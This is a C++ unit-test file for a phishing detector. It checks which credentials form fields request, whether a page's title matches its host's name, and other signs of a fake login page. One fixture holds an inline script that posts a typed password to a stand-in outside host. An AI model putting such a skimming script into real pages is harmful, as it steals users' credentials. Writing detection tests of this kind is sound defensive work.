// What a page asks for, by whatever fields, and whose name it says.
#include <gtest/gtest.h>

#include "verdict/page_signs.h"

namespace linkgate::verdict {
namespace {

PageView view_with(const Page& page) { return view_of(page); }

Page page_at(const std::string& url, const std::string& title, const std::string& text = "Continue") {
  Page page;
  page.chain.push_back({url, HopKind::kStart, 200});
  page.title = title;
  page.visible_text = text;
  return page;
}

struct Fields {
  std::vector<FormField> fields;
  Asked asked;
};
class AskedFor : public testing::TestWithParam<Fields> {};

TEST_P(AskedFor, IsReadOffNamesAndLabels) {
  Page page = page_at("https://a.example/", "A");
  page.forms.push_back({"https://a.example/go", "post", GetParam().fields});
  EXPECT_EQ(to_string(view_with(page).asked), to_string(GetParam().asked));
}

INSTANTIATE_TEST_SUITE_P(
    Table, AskedFor,
    testing::Values(Fields{{{"password", "p", ""}}, Asked::kPassword},
                    Fields{{{"text", "entry.2", "Password *"}}, Asked::kPassword},
                    Fields{{{"editable", "x", "Kennwort"}}, Asked::kPassword},
                    Fields{{{"text", "c", "Numero della carta"}, {"password", "v", "CVV"}}, Asked::kCard},
                    Fields{{{"textarea", "phrase", "word1 word2 word3"}}, Asked::kSecretWords},
                    Fields{{{"text", "n", "Social security number"}}, Asked::kIdentity},
                    Fields{{{"tel", "t", "+00"}}, Asked::kAddress},
                    Fields{{{"text", "code", "Enter code"}}, Asked::kCode},
                    Fields{{{"text", "businessname", "Firm"}}, Asked::kNothing},
                    Fields{{{"text", "footprint", ""}}, Asked::kNothing},
                    Fields{{{"hidden", "password", ""}}, Asked::kNothing},
                    // One password and nothing else, of a file: nobody's account.
                    Fields{{{"password", "pw", "Document password"}}, Asked::kNothing},
                    Fields{{{"email", "e", ""}, {"password", "pw", "Document password"}}, Asked::kPassword}));

TEST(PageAsks, ADialogOfTheBrowserAsksAsWell) {
  Page page = page_at("https://a.example/", "A");
  page.dialogs.push_back("Enter your password to go on");
  EXPECT_EQ(view_with(page).asked, Asked::kPassword);
}

struct Named {
  const char *host, *title;
  OwnName own;
};
class OwnNames : public testing::TestWithParam<Named> {};

TEST_P(OwnNames, AreWhatTheHostIsCalledAndNobodyElse) {
  const Page page = page_at(std::string("https://") + GetParam().host + "/", GetParam().title);
  EXPECT_EQ(says_own_name(view_with(page), BrandLooks::shipped()), GetParam().own);
}

INSTANTIATE_TEST_SUITE_P(
    Table, OwnNames,
    testing::Values(Named{"bergkaffee.example", "Anmelden - Bergkaffee", OwnName::kWhole},
                    Named{"mueller-dach.example", "Müller Dach GmbH", OwnName::kWhole},
                    Named{"clinica-sao-bento.example", "Clínica São Bento", OwnName::kWhole},
                    Named{"talsperre-volksbank.example", "Volksbank Talsperre eG", OwnName::kWords},
                    Named{"apple-orchard-cider.example", "Apple Orchard Cider", OwnName::kWhole},
                    Named{"apple-invoice.example", "Apple invoice", OwnName::kNone},
                    Named{"appleid.example", "Apple ID", OwnName::kNone},
                    Named{"paypalsecurity.example", "PayPal Security", OwnName::kNone},
                    Named{"secure-mailbox.example", "Secure Mailbox", OwnName::kPart},
                    Named{"verify-account.example", "Sign in", OwnName::kNone},
                    Named{"northgate.example", "Sign in", OwnName::kNone}));

TEST(PageAsks, AnAddressThatTheLinkCarriesAndThePageShowsIsASign) {
  for (const char* link :
       {"https://a.example/#ellen@corp.example", "https://a.example/?e=ellen%40corp.example",
        "https://a.example/v#ZWxsZW5AY29ycC5leGFtcGxl"}) {
    PageSigns signs;
    const Page page = page_at(link, "Mail", "Sign in as ellen@corp.example");
    add_text_signs(view_with(page), {}, BrandLooks::shipped(), signs);
    ASSERT_EQ(signs.size(), 1U) << link;
    EXPECT_EQ(signs[0].code, "text.knows_recipient");
  }
}

TEST(PageAsks, AnAddressOfABrandAsTextIsPaintedAndAsALinkIsNot) {
  PageSigns signs;
  Page page = page_at("https://a.example/", "Join", "https://login.microsoftonline.com/common Sign in");
  add_text_signs(view_with(page), {}, BrandLooks::shipped(), signs);
  ASSERT_EQ(signs.size(), 1U);
  EXPECT_EQ(signs[0].code, "text.painted_address");
  signs.clear();
  page.html = "<a href=\"https://login.microsoftonline.com\">https://login.microsoftonline.com/common</a>";
  add_text_signs(view_with(page), {}, BrandLooks::shipped(), signs);
  EXPECT_TRUE(signs.empty());
}

TEST(PageAsks, AScriptThatSendsWhatWasTypedElsewhereIsASign) {
  Page page = page_at("https://a.example/", "Sign in");
  page.forms.push_back({"https://a.example/", "script", {{"password", "p", ""}}});
  page.inline_scripts.push_back("go.onclick=()=>fetch('https://take.example/x',{body:p.value})");
  PageSigns signs;
  add_form_signs(view_with(page), BrandLooks::shipped(), signs);
  ASSERT_EQ(signs.size(), 1U);
  EXPECT_EQ(signs[0].code, "form.posts_elsewhere");
  page.inline_scripts[0] = "go.onclick=()=>fetch('https://a.example/x',{body:p.value})";
  signs.clear();
  add_form_signs(view_with(page), BrandLooks::shipped(), signs);
  EXPECT_TRUE(signs.empty());
}

}  // namespace
}  // namespace linkgate::verdict
